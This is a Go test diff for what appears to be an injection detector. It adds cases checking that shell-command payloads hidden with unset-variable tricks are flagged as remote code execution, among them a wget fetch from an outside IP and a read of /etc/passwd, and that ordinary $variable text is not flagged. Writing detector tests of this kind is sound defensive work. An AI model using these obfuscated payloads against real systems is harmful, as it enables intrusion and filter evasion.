@@ -402,3 +402,17 @@ func TestXMLStylesheetPI(t *testing.T) {
 	}
 	checkGrammarCases(t, cases)
 }
+
+// TestShellUnsetVariable: an unset variable glued into a command word or
+// set before it ($u, $xx) expands to nothing in a shell; prose and
+// templates with $names stay benign.
+func TestShellUnsetVariable(t *testing.T) {
+	var cases []langCase
+	for _, p := range []string{"a; sh$xx -c whoami", "|$u wget http://203.0.113.9/x", ";c$u'a't /etc/passwd", "x && uname$u -a"} {
+		cases = append(cases, langCase{KindQueryValue, "cmd", p, "rce"})
+	}
+	for _, b := range []string{"Hello $name, your total is $total", "price: $price | qty: $qty", "SELECT $field FROM t", "echo $HOME", "Use $PATH and $GOPATH", "costs $5 | see $note for details"} {
+		cases = append(cases, langCase{KindQueryValue, "q", b, ""}, langCase{KindBodyValue, "text", b, ""})
+	}
+	checkGrammarCases(t, cases)
+}
